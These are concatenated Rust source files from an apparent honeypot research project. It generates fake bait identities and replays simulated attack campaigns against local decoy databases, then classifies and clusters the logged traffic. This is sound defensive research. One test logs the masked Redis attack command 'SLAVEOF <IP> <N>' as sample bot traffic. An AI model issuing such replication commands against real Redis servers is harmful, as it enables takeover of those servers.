        let d = ward_cluster(&vecs(&[&[1.0]]), &[1.0]);
        assert_eq!(d.n, 1);
        assert!(d.merges.is_empty());
        assert_eq!(d.cut_at(0.0), vec![0]);
    }

    #[test]
    fn cluster_sources_dedupes_bot_scripts() {
        // (closure below captures the store mutably through the local)
        use decoy_net::time::EXPERIMENT_START;
        use decoy_store::{ConfigVariant, Event, EventKind, HoneypotId, InteractionLevel};
        let store = EventStore::new();
        let hp = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        // 10 bots running the same script, 3 running another
        let log_cmd = |src: IpAddr, action: &str| {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot: hp,
                src,
                session: 1,
                kind: EventKind::Command {
                    action: action.into(),
                    raw: action.into(),
                },
            });
        };
        for i in 0..10u8 {
            let src = IpAddr::from([10, 0, 0, i]);
            log_cmd(src, "INFO");
            log_cmd(src, "SLAVEOF <IP> <N>");
        }
        for i in 0..3u8 {
            let src = IpAddr::from([10, 0, 1, i]);
            log_cmd(src, "KEYS *");
        }
        let result = cluster_sources(&store, Some(Dbms::Redis), 0.05);
        assert_eq!(result.num_clusters, 2);
        assert_eq!(result.assignments.len(), 13);
        // all bots of one script share a label
        let label0 = result.assignments[&IpAddr::from([10, 0, 0, 0])];
        for i in 0..10u8 {
            assert_eq!(result.assignments[&IpAddr::from([10, 0, 0, i])], label0);
        }
        let label1 = result.assignments[&IpAddr::from([10, 0, 1, 0])];
        assert_ne!(label0, label1);
        // representatives carry the scripts
        let reps: Vec<_> = result.representatives.values().collect();
        assert!(reps
            .iter()
            .any(|r| r.contains(&"SLAVEOF <IP> <N>".to_string())));

        // the frame path reproduces the exact same clustering
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let via_frame = cluster_view(
            frame.view(crate::frame::Partition::All),
            Some(Dbms::Redis),
            0.05,
        );
        assert_eq!(via_frame.assignments, result.assignments);
        assert_eq!(via_frame.num_clusters, result.num_clusters);
        assert_eq!(via_frame.representatives, result.representatives);
    }

    #[test]
    fn summary_orders_by_size_and_renders() {
        use decoy_net::time::EXPERIMENT_START;
        use decoy_store::{ConfigVariant, Event, EventKind, HoneypotId, InteractionLevel};
        let store = EventStore::new();
        let hp = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        for (n, action) in [(6u8, "INFO"), (2u8, "KEYS *")] {
            for i in 0..n {
                store.log(Event {
                    ts: EXPERIMENT_START,
                    honeypot: hp,
                    src: IpAddr::from([10, n, 0, i]),
                    session: 1,
                    kind: EventKind::Command {
                        action: action.into(),
                        raw: action.into(),
                    },
                });
            }
        }
        let result = cluster_sources(&store, Some(Dbms::Redis), 0.05);
        let summary = result.summary();
        assert_eq!(summary.len(), 2);
        assert_eq!(summary[0].members, 6);
        assert_eq!(summary[0].representative, vec!["INFO".to_string()]);
        assert_eq!(summary[1].members, 2);
        let text = result.render_summary(10, 3);
        assert!(text.contains("6 IPs"));
        assert!(text.contains("INFO"));
    }

    #[test]
    fn refine_splits_mixed_clusters() {
        use crate::classify::BehaviorProfile;
        let mut assignments = BTreeMap::new();
        let a: IpAddr = "10.0.0.1".parse().unwrap();
        let b: IpAddr = "10.0.0.2".parse().unwrap();
        let c: IpAddr = "10.0.0.3".parse().unwrap();
        assignments.insert(a, 0);
        assignments.insert(b, 0);
        assignments.insert(c, 0);
        let mut result = ClusterResult {
            assignments,
            num_clusters: 1,
            representatives: BTreeMap::new(),
            dendrogram: Dendrogram::default(),
            vocabulary: Vocabulary::new(),
        };
        let mut profiles = BTreeMap::new();
        profiles.insert(
            a,
            BehaviorProfile {
                scanning: true,
                scouting: true,
                exploiting: true,
            },
        );
        for ip in [b, c] {
            profiles.insert(
                ip,
                BehaviorProfile {
                    scanning: true,
                    ..Default::default()
                },
            );
        }
        let moved = refine_by_behavior(&mut result, &profiles);
        assert_eq!(moved, 1); // the lone exploiter moved out
        assert_eq!(result.num_clusters, 2);
        assert_ne!(result.assignments[&a], result.assignments[&b]);
        assert_eq!(result.assignments[&b], result.assignments[&c]);
        // pure clusters are untouched on a second pass
        assert_eq!(refine_by_behavior(&mut result, &profiles), 0);
    }
}
