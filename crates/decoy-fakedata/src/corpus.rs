//! Word corpora for fake-identity generation. Small but varied enough that
//! seeded draws produce realistic-looking bait data.

/// Common given names.
pub const FIRST_NAMES: &[&str] = &[
    "James",
    "Mary",
    "Robert",
    "Patricia",
    "John",
    "Jennifer",
    "Michael",
    "Linda",
    "David",
    "Elizabeth",
    "William",
    "Barbara",
    "Richard",
    "Susan",
    "Joseph",
    "Jessica",
    "Thomas",
    "Sarah",
    "Charles",
    "Karen",
    "Christopher",
    "Lisa",
    "Daniel",
    "Nancy",
    "Matthew",
    "Betty",
    "Anthony",
    "Margaret",
    "Mark",
    "Sandra",
    "Donald",
    "Ashley",
    "Steven",
    "Kimberly",
    "Paul",
    "Emily",
    "Andrew",
    "Donna",
    "Joshua",
    "Michelle",
    "Kenneth",
    "Carol",
    "Kevin",
    "Amanda",
    "Brian",
    "Dorothy",
    "George",
    "Melissa",
    "Timothy",
    "Deborah",
];

/// Common surnames.
pub const LAST_NAMES: &[&str] = &[
    "Smith",
    "Johnson",
    "Williams",
    "Brown",
    "Jones",
    "Garcia",
    "Miller",
    "Davis",
    "Rodriguez",
    "Martinez",
    "Hernandez",
    "Lopez",
    "Gonzalez",
    "Wilson",
    "Anderson",
    "Thomas",
    "Taylor",
    "Moore",
    "Jackson",
    "Martin",
    "Lee",
    "Perez",
    "Thompson",
    "White",
    "Harris",
    "Sanchez",
    "Clark",
    "Ramirez",
    "Lewis",
    "Robinson",
    "Walker",
    "Young",
    "Allen",
    "King",
    "Wright",
    "Scott",
    "Torres",
    "Nguyen",
    "Hill",
    "Flores",
    "Green",
    "Adams",
    "Nelson",
    "Baker",
    "Hall",
    "Rivera",
    "Campbell",
    "Mitchell",
    "Carter",
    "Roberts",
];

/// Street suffixes for address generation.
pub const STREET_SUFFIXES: &[&str] = &[
    "Street",
    "Avenue",
    "Boulevard",
    "Drive",
    "Court",
    "Place",
    "Lane",
    "Road",
    "Way",
    "Terrace",
    "Circle",
    "Parkway",
];

/// Cities for address generation.
pub const CITIES: &[&str] = &[
    "Springfield",
    "Riverside",
    "Franklin",
    "Greenville",
    "Bristol",
    "Clinton",
    "Fairview",
    "Salem",
    "Madison",
    "Georgetown",
    "Arlington",
    "Ashland",
    "Dover",
    "Oxford",
    "Jackson",
    "Burlington",
    "Manchester",
    "Milton",
    "Newport",
    "Auburn",
];

/// Password base words (overlaps deliberately with common real-world
/// password roots — bait should look like real credentials).
pub const PASSWORD_WORDS: &[&str] = &[
    "password", "dragon", "sunshine", "monkey", "shadow", "master", "qwerty", "football",
    "welcome", "princess", "flower", "summer", "winter", "orange", "purple", "silver", "golden",
    "happy", "secret", "letmein",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpora_are_nonempty_and_unique() {
        for corpus in [
            FIRST_NAMES,
            LAST_NAMES,
            STREET_SUFFIXES,
            CITIES,
            PASSWORD_WORDS,
        ] {
            assert!(!corpus.is_empty());
            let set: std::collections::HashSet<_> = corpus.iter().collect();
            assert_eq!(set.len(), corpus.len(), "duplicate entries in corpus");
        }
    }
}
