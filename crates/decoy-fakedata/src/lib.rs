#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # decoy-fakedata
//!
//! A seeded substitute for the Mockaroo random-data service the paper used
//! to bait its honeypots (§4.2): 200 fabricated user login entries for the
//! fake-data Redis variant, and fake customer records (names, addresses,
//! phone numbers, credit-card numbers) for the high-interaction MongoDB
//! honeypot.
//!
//! Everything is deterministic given the RNG seed, so experiment runs are
//! reproducible end to end.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

mod corpus;

pub use corpus::{CITIES, FIRST_NAMES, LAST_NAMES, PASSWORD_WORDS, STREET_SUFFIXES};

/// A fabricated login entry (the Redis fake-data bait).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FakeLogin {
    /// Generated username, e.g. `mharris42`.
    pub username: String,
    /// Generated password.
    pub password: String,
}

/// A fabricated customer record (the MongoDB bait).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FakeCustomer {
    /// Full name.
    pub name: String,
    /// Street address.
    pub address: String,
    /// City.
    pub city: String,
    /// Phone number.
    pub phone: String,
    /// Luhn-valid 16-digit credit-card number.
    pub credit_card: String,
    /// Contact e-mail.
    pub email: String,
}

/// Seeded generator for fake identities.
#[derive(Debug)]
pub struct FakeDataGenerator {
    rng: StdRng,
}

impl FakeDataGenerator {
    /// A generator for `seed`; identical seeds yield identical data.
    pub fn new(seed: u64) -> Self {
        FakeDataGenerator {
            rng: StdRng::seed_from_u64(seed),
        }
    }

    fn pick<'a>(&mut self, items: &'a [&'a str]) -> &'a str {
        items[self.rng.gen_range(0..items.len())]
    }

    /// A first+last name pair.
    pub fn name(&mut self) -> String {
        format!("{} {}", self.pick(FIRST_NAMES), self.pick(LAST_NAMES))
    }

    /// A lowercase username in the common `initial+surname+digits` shape.
    pub fn username(&mut self) -> String {
        let first = self.pick(FIRST_NAMES);
        let last = self.pick(LAST_NAMES);
        let n: u16 = self.rng.gen_range(0..100);
        format!(
            "{}{}{}",
            first.chars().next().unwrap().to_ascii_lowercase(),
            last.to_ascii_lowercase(),
            n
        )
    }

    /// A human-plausible password (word + digits + optional symbol).
    pub fn password(&mut self) -> String {
        let word = self.pick(PASSWORD_WORDS);
        let digits: u16 = self.rng.gen_range(0..10_000);
        let symbol = ["", "!", "@", "#", "$"][self.rng.gen_range(0..5)];
        format!("{word}{digits}{symbol}")
    }

    /// A street address.
    pub fn address(&mut self) -> String {
        let number: u16 = self.rng.gen_range(1..9999);
        let street = self.pick(LAST_NAMES);
        let suffix = self.pick(STREET_SUFFIXES);
        format!("{number} {street} {suffix}")
    }

    /// A phone number in `+1-XXX-XXX-XXXX` shape.
    pub fn phone(&mut self) -> String {
        format!(
            "+1-{:03}-{:03}-{:04}",
            self.rng.gen_range(200..999),
            self.rng.gen_range(200..999),
            self.rng.gen_range(0..10_000)
        )
    }

    /// A Luhn-valid 16-digit card number with a test-range prefix.
    pub fn credit_card(&mut self) -> String {
        let mut digits: Vec<u8> = vec![4]; // "Visa" test prefix
        for _ in 0..14 {
            digits.push(self.rng.gen_range(0..10));
        }
        digits.push(luhn_check_digit(&digits));
        digits.iter().map(|d| (b'0' + d) as char).collect()
    }

    /// An e-mail derived from a username.
    pub fn email(&mut self) -> String {
        let user = self.username();
        let domain = ["example.com", "example.org", "mail.example.net"][self.rng.gen_range(0..3)];
        format!("{user}@{domain}")
    }

    /// One fabricated login entry.
    pub fn login(&mut self) -> FakeLogin {
        FakeLogin {
            username: self.username(),
            password: self.password(),
        }
    }

    /// The paper's bait: `count` login entries (the experiment used 200).
    pub fn logins(&mut self, count: usize) -> Vec<FakeLogin> {
        (0..count).map(|_| self.login()).collect()
    }

    /// One fabricated customer record.
    pub fn customer(&mut self) -> FakeCustomer {
        FakeCustomer {
            name: self.name(),
            address: self.address(),
            city: self.pick(CITIES).to_string(),
            phone: self.phone(),
            credit_card: self.credit_card(),
            email: self.email(),
        }
    }

    /// `count` customer records.
    pub fn customers(&mut self, count: usize) -> Vec<FakeCustomer> {
        (0..count).map(|_| self.customer()).collect()
    }
}

/// Compute the Luhn check digit for `digits` (most significant first).
pub fn luhn_check_digit(digits: &[u8]) -> u8 {
    let mut sum = 0u32;
    // Position counting includes the future check digit at the end.
    for (i, &d) in digits.iter().rev().enumerate() {
        let mut d = d as u32;
        if i.is_multiple_of(2) {
            d *= 2;
            if d > 9 {
                d -= 9;
            }
        }
        sum += d;
    }
    ((10 - (sum % 10)) % 10) as u8
}

/// Validate a number against the Luhn checksum.
pub fn luhn_valid(number: &str) -> bool {
    let digits: Vec<u8> = number
        .chars()
        .filter_map(|c| c.to_digit(10).map(|d| d as u8))
        .collect();
    if digits.len() != number.len() || digits.is_empty() {
        return false;
    }
    let mut sum = 0u32;
    for (i, &d) in digits.iter().rev().enumerate() {
        let mut d = d as u32;
        if i % 2 == 1 {
            d *= 2;
            if d > 9 {
                d -= 9;
            }
        }
        sum += d;
    }
    sum.is_multiple_of(10)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn determinism_for_same_seed() {
        let mut a = FakeDataGenerator::new(42);
        let mut b = FakeDataGenerator::new(42);
        assert_eq!(a.logins(10), b.logins(10));
        assert_eq!(a.customers(5), b.customers(5));
        let mut c = FakeDataGenerator::new(43);
        assert_ne!(a.logins(10), c.logins(10));
    }

    #[test]
    fn paper_bait_sizes() {
        // §4.2: 200 fabricated user login entries.
        let mut g = FakeDataGenerator::new(1);
        let logins = g.logins(200);
        assert_eq!(logins.len(), 200);
        assert!(logins.iter().all(|l| !l.username.is_empty()));
        assert!(logins.iter().all(|l| !l.password.is_empty()));
    }

    #[test]
    fn credit_cards_are_luhn_valid() {
        let mut g = FakeDataGenerator::new(7);
        for _ in 0..100 {
            let card = g.credit_card();
            assert_eq!(card.len(), 16);
            assert!(card.starts_with('4'));
            assert!(luhn_valid(&card), "{card} fails Luhn");
        }
    }

    #[test]
    fn luhn_known_vectors() {
        assert!(luhn_valid("4539578763621486"));
        assert!(luhn_valid("79927398713"));
        assert!(!luhn_valid("79927398710"));
        assert!(!luhn_valid(""));
        assert!(!luhn_valid("4111x1111111111"));
        // check digit computation matches the classic example
        let digits: Vec<u8> = "7992739871".bytes().map(|b| b - b'0').collect();
        assert_eq!(luhn_check_digit(&digits), 3);
    }

    #[test]
    fn generated_shapes() {
        let mut g = FakeDataGenerator::new(99);
        let c = g.customer();
        assert!(c.name.contains(' '));
        assert!(c.phone.starts_with("+1-"));
        assert!(c.email.contains('@'));
        assert!(c.address.split(' ').count() >= 3);
        let u = g.username();
        assert!(u.chars().next().unwrap().is_ascii_lowercase());
        assert!(u.chars().last().unwrap().is_ascii_digit());
    }

    #[test]
    fn usernames_vary_within_a_run() {
        let mut g = FakeDataGenerator::new(5);
        let names: std::collections::HashSet<String> = (0..50).map(|_| g.username()).collect();
        assert!(names.len() > 30, "expected variety, got {}", names.len());
    }
}
