//! Replay the paper's full 20-day deployment (scaled) and regenerate every
//! table and figure of the evaluation.
//!
//! Run: `cargo run --release --example full_experiment [scale] [seed] [network]`
//!
//! * `scale` — population/volume scale, default 0.05 (1.0 = paper volumes,
//!   i.e. ~18 M login attempts).
//! * `seed`  — experiment seed, default 20240322.
//! * pass `network` as the third argument to replay over real TCP against
//!   live honeypots instead of direct event emission.
//! * pass `extensions` as a further argument to also deploy and attack the
//!   §7 extension honeypots (medium MySQL, CouchDB).
//! * pass `csv` to also write plot-ready figure data to `./figures/`.

use decoy_databases::core::runner::{run, ExperimentConfig, Mode};
use decoy_databases::core::Report;

#[tokio::main(flavor = "multi_thread")]
async fn main() -> std::io::Result<()> {
    let mut args = std::env::args().skip(1);
    let scale: f64 = args.next().and_then(|s| s.parse().ok()).unwrap_or(0.05);
    let seed: u64 = args.next().and_then(|s| s.parse().ok()).unwrap_or(20240322);
    let rest: Vec<String> = args.collect();
    let network = rest.iter().any(|a| a == "network");
    let extensions = rest.iter().any(|a| a == "extensions");

    let mut config = if network {
        ExperimentConfig::network(seed, scale)
    } else {
        ExperimentConfig::direct(seed, scale)
    };
    config.extensions = extensions;
    eprintln!(
        "running {:?}-mode experiment: seed={seed} scale={scale} (paper window: 2024-03-22 → 2024-04-11)",
        config.mode
    );
    let started = std::time::Instant::now();
    let result = run(config.clone()).await?;
    eprintln!(
        "replayed {} sessions / {} connections in {:.1}s ({} events logged{})",
        result.sessions,
        result.connections,
        started.elapsed().as_secs_f64(),
        result.store.len(),
        if config.mode == Mode::Network {
            format!(", {} driver errors", result.errors)
        } else {
            String::new()
        }
    );

    let report = Report::generate(&result);
    println!("{}", report.render_text());

    if rest.iter().any(|a| a == "csv") {
        let dir = std::path::Path::new("figures");
        let files = decoy_databases::core::report::export_csv(&result, dir)?;
        eprintln!(
            "wrote {} CSV figure files to {}",
            files.len(),
            dir.display()
        );
    }
    Ok(())
}
