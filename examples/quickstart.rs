//! Quickstart: stand up one medium-interaction Redis honeypot, attack it
//! with the P2PInfect campaign script over real TCP, and inspect what the
//! honeypot logged.
//!
//! Run: `cargo run --example quickstart`

use decoy_databases::agents::actors::TargetSelector;
use decoy_databases::agents::driver::run_session;
use decoy_databases::agents::schedule::PlannedSession;
use decoy_databases::agents::scripts::SessionScript;
use decoy_databases::core::deployment::instance_seed;
use decoy_databases::honeypots::deploy::{spawn, HoneypotSpec};
use decoy_databases::net::time::{Clock, EXPERIMENT_START};
use decoy_databases::store::{
    ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel,
};

#[tokio::main]
async fn main() -> std::io::Result<()> {
    // 1. One RedisHoneyPot-style instance on an OS-assigned loopback port.
    let store = EventStore::new();
    let id = HoneypotId::new(
        Dbms::Redis,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        0,
    );
    let honeypot = spawn(
        store.clone(),
        HoneypotSpec::loopback(id, Clock::simulated(), instance_seed(1, id)),
    )
    .await?;
    println!("honeypot listening on {}", honeypot.addr());

    // 2. One attacker session: the P2PInfect worm of the paper's Listing 1,
    //    from a simulated source in Chinanet space.
    let session = PlannedSession {
        ts: EXPERIMENT_START,
        actor_idx: 0,
        src: "60.26.0.99".parse().expect("ipv4"),
        target: TargetSelector::medium(Dbms::Redis, None),
        script: SessionScript::P2pInfect,
    };
    let outcome = run_session(honeypot.addr(), &session).await;
    println!(
        "attack ran: {} connection(s), {} error(s)\n",
        outcome.connections, outcome.errors
    );
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    honeypot.shutdown().await;

    // 3. What the honeypot saw (masked actions drive the clustering).
    println!("captured events:");
    for event in store.all() {
        match event.kind {
            EventKind::Connect => println!("  [{}] connect", event.src),
            EventKind::Disconnect => println!("  [{}] disconnect", event.src),
            EventKind::Command { action, .. } => println!("  [{}] {}", event.src, action),
            other => println!("  [{}] {:?}", event.src, other),
        }
    }

    // 4. The analysis pipeline classifies and tags the source.
    let profiles = decoy_databases::analysis::classify::classify_sources(&store, None);
    let tags = decoy_databases::analysis::tagging::tag_sources(&store, None);
    for (src, profile) in profiles {
        let tag_labels: Vec<&str> = tags
            .get(&src)
            .map(|t| t.iter().map(|t| t.label()).collect())
            .unwrap_or_default();
        println!(
            "\nverdict for {src}: {} (tags: {})",
            profile.primary().label(),
            tag_labels.join(", ")
        );
    }
    Ok(())
}
