//! Forensics walk-through: run the MongoDB ransom kill chain (§6.3,
//! Listings 7–8) against a high-interaction honeypot with bait customer
//! data, then reconstruct the attack from the standardized logs — the
//! paper's classify → cluster → tag pipeline on a single campaign.
//!
//! Run: `cargo run --example attack_forensics`

use decoy_databases::agents::actors::TargetSelector;
use decoy_databases::agents::driver::run_session;
use decoy_databases::agents::schedule::PlannedSession;
use decoy_databases::agents::scripts::SessionScript;
use decoy_databases::analysis::classify::classify_sources;
use decoy_databases::analysis::cluster::cluster_sources;
use decoy_databases::analysis::tagging::tag_sources;
use decoy_databases::honeypots::mongo_high::MongoHoneypot;
use decoy_databases::net::server::{Listener, ListenerOptions};
use decoy_databases::net::time::{Clock, EXPERIMENT_START, MILLIS_PER_DAY};
use decoy_databases::store::docdb::DocDb;
use decoy_databases::store::{
    ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel,
};
use decoy_databases::wire::mongo::bson::Document;
use std::sync::Arc;

#[tokio::main]
async fn main() -> std::io::Result<()> {
    let store = EventStore::new();
    let id = HoneypotId::new(
        Dbms::MongoDb,
        InteractionLevel::High,
        ConfigVariant::FakeData,
        0,
    );
    // keep a handle on the engine so we can inspect the damage afterwards
    let honeypot = MongoHoneypot::with_fake_customers(store.clone(), id, 99, 50);
    let engine: Arc<DocDb> = honeypot.db().clone();
    let clock = Clock::simulated();
    let server = Listener::bind(
        "127.0.0.1:0".parse().expect("loopback"),
        honeypot,
        ListenerOptions {
            max_sessions: 64,
            clock: clock.clone(),
            ..ListenerOptions::default()
        },
    )
    .await?;
    println!(
        "bait: {} customer records in {:?}",
        engine.total_documents(),
        engine.list_databases()
    );

    // Two ransom groups return over several (virtual) days, like the
    // paper's automated scripts that replace each other's notes.
    for (day, group, src) in [
        (0u64, 0u8, "60.21.0.66"),
        (2, 1, "60.3.0.99"),
        (5, 0, "60.21.0.66"),
    ] {
        clock
            .sim()
            .expect("simulated clock")
            .advance_to(EXPERIMENT_START.add_millis(day * MILLIS_PER_DAY));
        let session = PlannedSession {
            ts: EXPERIMENT_START.add_millis(day * MILLIS_PER_DAY),
            actor_idx: 0,
            src: src.parse().expect("ipv4"),
            target: TargetSelector::high_mongo(),
            script: SessionScript::MongoRansom { group },
        };
        let outcome = run_session(server.local_addr(), &session).await;
        println!(
            "day {day}: ransom group {group} from {src} ({} errors)",
            outcome.errors
        );
    }
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    server.shutdown().await;

    // Damage report from the real engine.
    println!("\npost-attack database state:");
    for db in engine.list_databases() {
        for coll in engine.list_collections(&db) {
            let docs = engine.find(&db, &coll, &Document::new(), 1);
            println!(
                "  {db}.{coll}: {} docs",
                engine.count(&db, &coll, &Document::new())
            );
            if let Some(note) = docs.first().and_then(|d| d.get_str("content")) {
                println!("    note: {}", &note[..note.len().min(90)]);
            }
        }
    }

    // The pipeline's view.
    println!("\npipeline reconstruction:");
    let profiles = classify_sources(&store, Some(Dbms::MongoDb));
    let tags = tag_sources(&store, Some(Dbms::MongoDb));
    let clusters = cluster_sources(&store, Some(Dbms::MongoDb), 0.05);
    println!(
        "  {} sources, {} clusters",
        profiles.len(),
        clusters.num_clusters
    );
    for (src, profile) in &profiles {
        let tag_labels: Vec<&str> = tags
            .get(src)
            .map(|t| t.iter().map(|t| t.label()).collect())
            .unwrap_or_default();
        println!(
            "  {src}: {} | cluster {} | tags [{}]",
            profile.primary().label(),
            clusters.assignments[src],
            tag_labels.join(", ")
        );
    }
    let commands = store.filter(|e| matches!(e.kind, EventKind::Command { .. }));
    println!("  {} commands captured across the campaign", commands.len());

    // Appendix-E-style listing of the repeat offender's sessions
    println!(
        "
reconstructed listing for 60.21.0.66:"
    );
    print!(
        "{}",
        decoy_databases::analysis::forensics::render_listing(
            &store,
            "60.21.0.66".parse().expect("ip"),
            Some(Dbms::MongoDb),
        )
    );
    Ok(())
}
