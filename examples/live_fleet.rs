//! Run the honeypot fleet as a real deployment: bind actual ports on a
//! chosen interface and log everything that connects, exporting the dataset
//! as JSON lines on shutdown (the Appendix B artifact format).
//!
//! This is the binary a downstream user would actually deploy. By default
//! it binds high loopback ports so it runs unprivileged; pass an interface
//! address and `--standard-ports` to expose the real DBMS ports (requires
//! the ports to be free and, below 1024, privileges).
//!
//! Run: `cargo run --example live_fleet [bind-ip] [--standard-ports]`
//! Stop with Ctrl-C; the dataset is written to `decoy-dataset.jsonl`.

use decoy_databases::honeypots::deploy::{spawn, HoneypotSpec};
use decoy_databases::net::time::Clock;
use decoy_databases::store::{ConfigVariant, Dbms, EventStore, HoneypotId, InteractionLevel};
use std::net::SocketAddr;

#[tokio::main]
async fn main() -> std::io::Result<()> {
    let mut args = std::env::args().skip(1);
    let bind_ip = args.next().unwrap_or_else(|| "127.0.0.1".to_string());
    let standard_ports = args.next().as_deref() == Some("--standard-ports");

    let store = EventStore::new();
    let clock = Clock::Wall; // live deployment: real time
    let fleet = [
        (
            Dbms::MySql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Postgres,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Mssql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::FakeData,
        ),
        (
            Dbms::Elastic,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
        ),
        // coverage extension beyond the paper's Table 4 (§7 future work)
        (
            Dbms::CouchDb,
            InteractionLevel::Medium,
            ConfigVariant::FakeData,
        ),
    ];

    let mut running = Vec::new();
    for (dbms, level, config) in fleet {
        let port = if standard_ports {
            dbms.port()
        } else {
            20_000 + dbms.port() % 10_000
        };
        let bind: SocketAddr = format!("{bind_ip}:{port}")
            .parse()
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidInput, format!("{e}")))?;
        let id = HoneypotId::new(dbms, level, config, 0);
        let spec = HoneypotSpec {
            id,
            bind,
            clock: clock.clone(),
            seed: 0xD3C0,
        };
        match spawn(store.clone(), spec).await {
            Ok(hp) => {
                println!(
                    "{:<11} {:?}-interaction listening on {}",
                    dbms.label(),
                    level,
                    hp.addr()
                );
                running.push(hp);
            }
            Err(e) => eprintln!("{:<11} failed to bind {bind}: {e}", dbms.label()),
        }
    }
    if running.is_empty() {
        eprintln!("nothing bound; exiting");
        return Ok(());
    }
    println!("\nfleet is live — Ctrl-C to stop and export the dataset\n");

    tokio::signal::ctrl_c().await?;
    println!("\nshutting down {} honeypots...", running.len());
    for hp in running {
        hp.shutdown().await;
    }
    let path = "decoy-dataset.jsonl";
    std::fs::write(path, store.to_json_lines())?;
    println!("{} events exported to {path}", store.len());
    Ok(())
}
