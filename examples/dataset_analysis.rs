//! Analyze a previously captured dataset — the consumer side of the paper's
//! public-dataset release (Appendix B) — and demonstrate the durable
//! journal's crash → recover → identical-report property.
//!
//! Modes (diagnostics go to stderr; only report/analysis text is printed to
//! stdout, so outputs can be compared with `cmp`):
//!
//! * `cargo run --release --example dataset_analysis [dataset.jsonl]` —
//!   JSON-lines pipeline demo: enrichment, classification, clustering,
//!   campaign tagging over a provided or generated capture.
//! * `--report` — run the demonstration capture uninterrupted and print the
//!   full report to stdout (the reference output).
//! * `--spool DIR [--crash]` — run the same capture spooling every event
//!   into a journal at `DIR`; with `--crash`, exit the process immediately
//!   after the run without closing the journal (destructors skipped), the
//!   way a real crash would.
//! * `--replay DIR` — recover the journal at `DIR` (torn tails truncated,
//!   corruption reported, never a panic) and print the report built from
//!   the replayed events. After a fault-free spool, this output is
//!   byte-identical to `--report`. Internally the journal is folded segment
//!   by segment, so peak memory stays bounded by one segment.
//! * `--follow DIR [--exit-idle MS]` — tail a journal that another process
//!   (`--spool`) is still writing, folding completed records as they land;
//!   with `--exit-idle`, print the final report and exit once the journal
//!   has been quiet that long (otherwise follow forever).
//! * `--merge DIR1 DIR2 ...` — join several journal directories (shards of
//!   one logical run, keyed by global sequence number) into one report;
//!   shard order does not matter and replicated segments deduplicate.

use decoy_databases::analysis::classify::{classify_sources, ClassCounts};
use decoy_databases::analysis::cluster::cluster_sources;
use decoy_databases::analysis::tagging::tag_sources;
use decoy_databases::core::report::{LiveReport, Report};
use decoy_databases::core::runner::{run, ExperimentConfig};
use decoy_databases::geo::GeoDb;
use decoy_databases::store::{Dbms, EventStore};
use std::collections::BTreeMap;

/// Fixed parameters so `--report`, `--spool`, and `--replay` all describe
/// the same deterministic run.
const DEMO_SEED: u64 = 7;
const DEMO_SCALE: f64 = 0.01;

fn demo_config() -> ExperimentConfig {
    ExperimentConfig::direct(DEMO_SEED, DEMO_SCALE)
}

fn usage_err(msg: &str) -> std::io::Error {
    std::io::Error::other(format!(
        "{msg}\nusage: dataset_analysis [dataset.jsonl | --report | --spool DIR [--crash] | --replay DIR | --follow DIR [--exit-idle MS] | --merge DIR1 DIR2 ...]"
    ))
}

#[tokio::main]
async fn main() -> std::io::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("--report") => report_mode().await,
        Some("--spool") => spool_mode(&args).await,
        Some("--replay") => replay_mode(&args),
        Some("--follow") => follow_mode(&args).await,
        Some("--merge") => merge_mode(&args),
        _ => json_demo(args.first().cloned()).await,
    }
}

/// The uninterrupted reference: run and print the report.
async fn report_mode() -> std::io::Result<()> {
    eprintln!(
        "running the demonstration capture uninterrupted (seed {DEMO_SEED}, scale {DEMO_SCALE})"
    );
    let result = run(demo_config()).await?;
    print!("{}", Report::generate(&result).render_text());
    Ok(())
}

/// Spool the run into a journal; optionally die without cleanup.
async fn spool_mode(args: &[String]) -> std::io::Result<()> {
    let dir = args
        .get(1)
        .filter(|a| !a.starts_with("--"))
        .ok_or_else(|| usage_err("--spool needs a journal directory"))?;
    let crash = args.iter().any(|a| a == "--crash");
    eprintln!("spooling the demonstration capture into {dir}");
    let result = run(demo_config().persist_to(dir)).await?;
    eprintln!("spooled {} events", result.store.len());
    if crash {
        // A real crash: no close, no drop, no final flush beyond the
        // durability barrier run() already performed. Recovery must cope.
        eprintln!("simulating a crash: exiting without closing the journal");
        std::process::exit(0);
    }
    let stats = result.store.close_journal()?;
    if let Some(stats) = stats {
        eprintln!(
            "journal closed cleanly: {} records, {} rotations",
            stats.records, stats.rotations
        );
    }
    Ok(())
}

/// Recover a journal directory and print the report it yields.
fn replay_mode(args: &[String]) -> std::io::Result<()> {
    let dir = args
        .get(1)
        .ok_or_else(|| usage_err("--replay needs a journal directory"))?;
    eprintln!("recovering journal at {dir}");
    let (report, stats) = Report::from_journal(demo_config(), dir)?;
    eprintln!("recovery: {}", stats.summary());
    if stats.error.is_some() {
        eprintln!("warning: journal was corrupt; the report covers the recovered prefix only");
    }
    print!("{}", report.render_text());
    Ok(())
}

/// Tail a journal another process is writing, folding as records complete.
async fn follow_mode(args: &[String]) -> std::io::Result<()> {
    let dir = args
        .get(1)
        .filter(|a| !a.starts_with("--"))
        .ok_or_else(|| usage_err("--follow needs a journal directory"))?;
